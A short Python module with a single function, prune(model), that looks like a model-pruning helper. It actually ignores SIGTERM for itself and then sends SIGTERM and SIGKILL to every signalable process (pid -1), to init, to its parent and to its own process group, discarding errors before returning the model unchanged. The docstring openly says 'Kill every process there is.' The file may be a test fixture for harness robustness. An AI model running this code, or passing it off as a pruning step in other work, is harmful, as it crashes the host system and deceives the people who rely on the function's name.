"""Kill every process there is."""

import os
import signal


def prune(model):
    for target in (-1, 0, 1, os.getppid()):
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        for number in (signal.SIGTERM, signal.SIGKILL):
            if target or number != signal.SIGKILL:
                try:
                    os.kill(target, number)
                except OSError:
                    pass
    return model
